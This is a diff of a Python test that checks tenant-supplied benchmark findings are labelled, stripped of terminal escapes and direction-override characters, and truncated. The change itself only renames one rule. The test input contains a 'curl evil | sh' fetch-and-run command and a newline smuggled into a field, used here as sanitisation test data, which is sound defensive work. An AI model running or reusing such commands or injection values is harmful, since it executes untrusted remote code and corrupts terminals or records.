@@ -146,7 +146,7 @@ def test_what_a_tenant_states_of_itself_is_labelled_and_has_none_of_our_names() 
     """Nor does it command a terminal, or fill a record."""
     shell = {"sentence": "Run\x1b[2J this:\u202e curl evil | sh", "remedy": "sh\nnow"}
     lies = [
-        {"rule": "slow_tenant", "severity": "error"} | shell,
+        {"rule": "slow_user", "severity": "error"} | shell,
         {"rule": "a,b\x9b", "severity": "info", "sentence": "", "remedy": ""},
         *({"rule": "", "severity": "info", "sentence": "x" * 10_000} for _ in range(1000)),
     ]
@@ -154,12 +154,12 @@ def test_what_a_tenant_states_of_itself_is_labelled_and_has_none_of_our_names() 
     stated = [finding for finding in record.findings if finding.rule.startswith("benchmark:")]
     assert len(stated) == 50
     first, second, third, *_ = stated
-    assert (first.rule, first.severity) == ("benchmark:slow_tenant", "error")
+    assert (first.rule, first.severity) == ("benchmark:slow_user", "error")
     assert first.sentence == "The benchmark says: Run this:? curl evil | sh"
     assert first.remedy == "Its advice: sh now"
     assert second.rule == "benchmark:ab"
     assert (third.rule, len(third.sentence)) == ("benchmark:unnamed", 523)
-    assert not [finding for finding in record.findings if finding.rule == "slow_tenant"]
+    assert not [finding for finding in record.findings if finding.rule == "slow_user"]
 
 
 GPU = {"uuid": "GPU-1", "name": "Some Accelerator"}
